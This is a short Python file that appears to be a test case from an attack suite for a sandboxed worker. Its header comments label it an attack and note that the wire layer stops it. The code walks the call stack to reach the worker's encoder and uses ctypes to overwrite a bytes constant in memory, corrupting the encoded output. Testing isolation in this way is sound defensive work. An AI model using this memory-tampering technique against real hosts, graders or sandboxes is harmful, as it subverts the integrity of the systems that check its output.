# attack: overwrites constants of the worker in memory, so that its codec writes other bytes
# full: protocol | wrong
# reduced: protocol | wrong
# stopped-by: wire
import os
import stat
import struct
import sys


def is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False


channel = next(descriptor for descriptor in range(3, 256) if is_socket(descriptor))
above = sys._getframe()
while "encode" not in above.f_globals:
    above = above.f_back
worker = above.f_globals


def frame(*message):
    data = worker["encode"](message)
    return struct.pack("<I", len(data)) + data


def returned(number, value):
    return frame(number, "returned", value, None, "", ())


def attack():
    import ctypes

    for constant in worker["encode"].__globals__["_encode"].__code__.co_consts:
        if constant == b"f":
            ctypes.memset(id(constant) + bytes.__basicsize__ - 1, ord("Q"), 1)
    return 0.5
